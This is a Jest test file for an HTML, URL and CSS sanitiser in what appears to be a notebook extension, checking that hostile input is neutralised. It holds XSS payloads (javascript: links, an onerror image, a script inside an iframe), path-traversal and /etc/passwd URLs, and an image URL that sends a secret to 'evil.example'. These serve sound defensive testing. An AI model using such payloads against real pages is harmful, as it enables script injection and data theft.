/**
 * @jest-environment jsdom
 */
import {
  classToken,
  cleanHtml,
  cleanStyle,
  IMAGE_NOT_LOADED,
  LINK_REMOVED,
  linkTarget
} from '../safe';
import { PAYLOADS, problems } from './pagechecks';

describe('linkTarget', () => {
  it.each([
    'https://example.com/a?b=1&c=2#d',
    'HTTP://EXAMPLE.COM',
    'mailto:ana@example.com',
    'data/sales.csv',
    'sub dir/My Notebook.ipynb',
    './notes.md',
    '#results'
  ])('keeps %s', url => {
    expect(linkTarget(url)).toBe(url);
  });

  it.each([
    'javascript:alert(1)',
    ' JavaScript:alert(1)',
    'java\tscript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    '/etc/passwd',
    '//evil.example/x',
    '/\\evil.example',
    '../secret.md',
    'a/b/../c.md',
    '%2e%2e/secret.md',
    '%252e%252e/secret.md',
    '%E0%A4%A/bad-escape',
    'a:b',
    ''
  ])('refuses %j', url => {
    expect(linkTarget(url)).toBeNull();
  });
});

describe('cleanHtml', () => {
  it.each(PAYLOADS)('leaves nothing live of %s', payload => {
    const cleaned = cleanHtml(payload);
    expect(problems(cleaned)).toEqual([]);
    // Parsing what we return again changes nothing (no mutation on re-parse).
    expect(cleanHtml(cleaned)).toBe(cleaned);
  });

  it('finds something live in each payload left as it is', () => {
    const missed = PAYLOADS.filter(
      p => problems(p).length === 0 && !p.startsWith('<!--')
    );
    // Only a tag cut off at the end of the text: the parser drops it whole.
    expect(missed).toEqual(['<img src=x onerror=alert(1)//']);
  });

  it('shows an image as its alt text and its URL as text, never loaded', () => {
    const cleaned = cleanHtml(
      '<p>See <img alt="the chart" src="https://evil.example/steal?q=SECRET"> and ' +
        '<img src="data:image/png;base64,AAAA"></p>'
    );
    expect(cleaned).toBe(
      '<p>See the chart (image not loaded: https://evil.example/steal?q=SECRET) ' +
        `and (${IMAGE_NOT_LOADED})</p>`
    );
  });

  it('keeps a link it may keep, and says so when it removes one', () => {
    const cleaned = cleanHtml(
      '<a href="https://example.com" onclick="x()">ok</a> ' +
        '<a href="javascript:alert(1)"><b>open</b></a> <a href="data/x.csv">data</a>'
    );
    expect(cleaned).toBe(
      '<a href="https://example.com">ok</a> <b>open</b>' +
        `<span class="jm-removed"> ${LINK_REMOVED}</span> <a href="data/x.csv">data</a>`
    );
  });

  it('keeps what markdown and our static views are made of', () => {
    const html =
      '<h2>Revenue</h2><p><strong>grew</strong> <em>a lot</em> <del>x</del> <code>df</code></p>' +
      '<pre><code class="language-python"><span class="tok-keyword">import</span> os</code></pre>' +
      '<ol start="3"><li>one</li></ol><table><thead><tr><th style="text-align:right">a</th>' +
      '</tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>' +
      '<details open=""><summary>more</summary><blockquote>q</blockquote></details>' +
      '<div class="jupyter-memory-context" role="img" aria-label="bar" style="display:flex;' +
      'background-image:repeating-linear-gradient(45deg, rgba(255,255,255,.30) 0 2px, ' +
      'transparent 2px 6px);color:var(--jp-ui-font-color1, #1f1f1f);position:absolute;' +
      'left:12.500%">x</div>';
    expect(cleanHtml(html)).toBe(html);
  });

  it('unwraps other elements: their text stays, the rest of the text too', () => {
    expect(cleanHtml('<font color=red>red</font> <x-widget>w</x-widget>')).toBe(
      'red w'
    );
    expect(
      cleanHtml('<p>Draw it in an <svg> element. <b>Then</b> save.</p>')
    ).toBe('<p>Draw it in an  element. <b>Then</b> save.</p>');
    expect(cleanHtml('<iframe><script>alert(1)</script></iframe>after')).toBe(
      '&lt;script&gt;alert(1)&lt;/script&gt;after'
    );
  });
});

describe('cleanStyle', () => {
  it('keeps layout and colour, drops what loads or covers the page', () => {
    expect(
      cleanStyle(
        'color:red; background:url(https://e/x); position:fixed; top:0; ' +
          'width:calc(100% - 2px); behavior:url(x.htc); background-image:' +
          'image-set("x.png" 1x); font-family:"Evil"; content:"x"'
      )
    ).toBe('color:red;top:0;width:calc(100% - 2px)');
  });
});

describe('classToken', () => {
  it('keeps a class name to one token', () => {
    expect(classToken('injected')).toBe('injected');
    expect(classToken('x jp-Dialog" onclick="y')).toBe('xjp-Dialogonclicky');
    expect(classToken('')).toBe('unknown');
  });
});
